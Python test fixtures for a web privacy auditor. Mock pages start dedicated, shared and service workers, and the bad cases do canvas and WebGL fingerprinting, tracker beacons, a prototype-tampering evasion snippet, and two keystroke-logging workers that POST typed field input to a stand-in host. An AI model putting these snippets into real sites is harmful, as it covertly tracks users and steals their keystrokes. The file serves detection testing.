"""Scripts that run beside the page, planted: dedicated, shared and service workers, of an address and of a blob."""

from __future__ import annotations

from tests.auditor.cases.consent import GA, OFFSCREEN, TRACKED, WEBGL_READ
from tests.auditor.cases.personal import FIELD, OTHER, TO
from tests.auditor.cases.site import SCRIPT, Case, bad, good, script
from tests.auditor.town import Reply

FETCH = f'fetch("{GA}/g/collect?v=2&tid=G-1",{{mode:"no-cors",method:"POST",body:"x"}})'
FINGERPRINT = "fingerprint-before-choice"
UNSEEN = "not-all-noted"
#: What a worker of a well-made site relies on: strict mode, its own address, its own neighbours, its name.
HONEST = """/* outil */ "use strict";
importScripts("outils/calcul.js");
const strict = (function () { return this === undefined; })();
onmessage = async (event) => {
  const own = await (await fetch("donnees.json")).json();
  const canvas = new OffscreenCanvas(32, 32);
  canvas.getContext("2d").fillRect(0, 0, 9, 9);
  postMessage([double(event.data) + own.plus, strict, self.name, new URL(self.location.href).pathname].join(" "));
};"""
SAYS = "(e)=>{const p=document.createElement('p');p.textContent='travail '+e.data;document.body.append(p)}"
ASKS = f"""class Outil extends Worker{{}}
const w=new Outil("/js/outil.js",{{name:"calculateur"}});w.onmessage={SAYS};w.postMessage(20);
if(!/native code/.test(Worker.toString())||!(w instanceof Worker))document.title="sonde vue";"""
SHARED = f"""const s=new SharedWorker("/partage.js");s.port.onmessage={SAYS};s.port.start();s.port.postMessage("ok")"""
BLOB = f"""const b=new Worker(URL.createObjectURL(new Blob(["onmessage=e=>postMessage(e.data+1)"],{{type:"text/javascript"}})));
b.onmessage={SAYS};b.postMessage(41)"""
NESTED = f"new Worker(URL.createObjectURL(new Blob(['{OFFSCREEN.replace(chr(10), '')}'])))"
#: A page that changes the language before its workers begin.
CHANGED = 'Map.prototype.get=()=>{throw 1};String.prototype.slice=()=>"";JSON.stringify=()=>"[]";'


def by_address(code: str, how: str = 'new Worker("/w.js")', changed: str = "") -> dict[str, object]:
    """Return a page that starts a worker from a file of the site."""
    return {"pages": {"/w.js": Reply(code, SCRIPT)}, "home": script(changed + how)}


def by_blob(code: str, kind: str = "Worker") -> dict[str, object]:
    """Return a page that starts a worker from its own text."""
    return {"home": script(f"new {kind}(URL.createObjectURL(new Blob([`{code}`])))")}


def by_service(code: str, part: str = "") -> dict[str, object]:
    """Return a page that installs a service worker."""
    pages = {"/sw.js": Reply(code, SCRIPT), "/p.js": Reply(part, SCRIPT)}
    return {"pages": pages, "home": script('navigator.serviceWorker.register("/sw.js")')}


BAD: tuple[Case, ...] = (
    bad("worker-canvas", FINGERPRINT, **by_address(OFFSCREEN)),
    bad("worker-canvas-strict", FINGERPRINT, **by_address(f'"use strict";{OFFSCREEN}')),
    bad("worker-canvas-module", FINGERPRINT, **by_address(OFFSCREEN, 'new Worker("/w.js",{type:"module"})')),
    bad("worker-canvas-changed", FINGERPRINT, **by_address(OFFSCREEN, changed=CHANGED)),
    bad("worker-webgl", FINGERPRINT, **by_address(WEBGL_READ)),
    bad("worker-blob-canvas", FINGERPRINT, **by_blob(OFFSCREEN)),
    bad("worker-shared-canvas", FINGERPRINT, **by_address(OFFSCREEN, 'new SharedWorker("/w.js")')),
    bad("worker-shared-blob-canvas", FINGERPRINT, **by_blob(OFFSCREEN, "SharedWorker")),
    bad("worker-in-a-worker", FINGERPRINT, **by_blob(NESTED)),
    bad("worker-storage", "storage-before-choice", **by_address('indexedDB.open("amplitude_main")')),
    bad("worker-fetch", *TRACKED, **by_address(FETCH)),
    bad("worker-blob-fetch", *TRACKED, **by_blob(FETCH)),
    bad("worker-socket", *TRACKED, **by_address('new WebSocket("wss://ws.hotjar.com/api/v2/client/ws")')),
    bad("worker-shared-fetch", *TRACKED, **by_address(FETCH, 'new SharedWorker("/w.js")')),
    bad(
        "worker-shared-keystrokes",
        "keystrokes-sent",
        OTHER,
        pages={
            "/w.js": Reply(
                f'onconnect=c=>{{c.ports[0].onmessage=e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:e.data}})}}',
                SCRIPT,
            )
        },
        home=FIELD
        + script(
            'const s=new SharedWorker("/w.js");s.port.start();document.getElementById("p").addEventListener("input",e=>{if(e.target.value.length>10)s.port.postMessage(e.target.value)})'
        ),
    ),
    bad(
        "worker-keystrokes",
        "keystrokes-sent",
        OTHER,
        pages={"/w.js": Reply(f'onmessage=e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:e.data}})', SCRIPT)},
        home=FIELD
        + script(
            'const w=new Worker("/w.js");document.getElementById("p").addEventListener("input",e=>{if(e.target.value.length>10)w.postMessage(e.target.value)})'
        ),
    ),
    # What a service worker reads is read in its text, which proves no fingerprint and no innocence.
    bad("service-worker-canvas", UNSEEN, **by_service(OFFSCREEN)),
    bad("service-worker-webgl", UNSEEN, **by_service(WEBGL_READ)),
    bad("service-worker-imports-canvas", UNSEEN, **by_service('importScripts("/p.js")', OFFSCREEN)),
    bad("service-worker-when-asked", UNSEEN, **by_service(f"onmessage=()=>{{{OFFSCREEN}}}")),
    bad("service-worker-of-made-words", UNSEEN, **by_service('eval("1+1")')),
    good("service-worker-that-stops", **by_service("debugger;onfetch=()=>{}")),
    # What cannot be watched is said, and passes nothing.
    bad(
        "worker-of-data", UNSEEN, home=script(f"new Worker('data:text/javascript,'+encodeURIComponent(`{OFFSCREEN}`))")
    ),
    bad(
        "worker-hidden-in-a-worker",
        UNSEEN,
        pages={"/w.js": Reply('new Worker("/n.js")', SCRIPT), "/n.js": Reply("postMessage(1)", SCRIPT)},
        home=script('new Worker("/w.js")'),
    ),
)
GOOD: tuple[Case, ...] = (
    good(
        "worker-honest",
        pages={
            "/js/outil.js": Reply(HONEST, SCRIPT),
            "/js/outils/calcul.js": Reply("function double(n){return 2*n}", SCRIPT),
            "/js/donnees.json": Reply('{"plus":2}', "application/json"),
        },
        home=script(ASKS),
    ),
    good(
        "worker-shared-honest",
        pages={"/partage.js": Reply("onconnect=c=>{c.ports[0].onmessage=e=>c.ports[0].postMessage(e.data)}", SCRIPT)},
        home=script(SHARED),
    ),
    good("worker-blob-honest", home=script(BLOB)),
    good(
        "worker-service-honest",
        pages={
            "/sw.js": Reply(
                'self.addEventListener("install",e=>e.waitUntil(caches.open("v1").then(c=>c.add("/"))))', SCRIPT
            )
        },
        home=script('navigator.serviceWorker.register("/sw.js")'),
    ),
)
CASES = (*BAD, *GOOD)
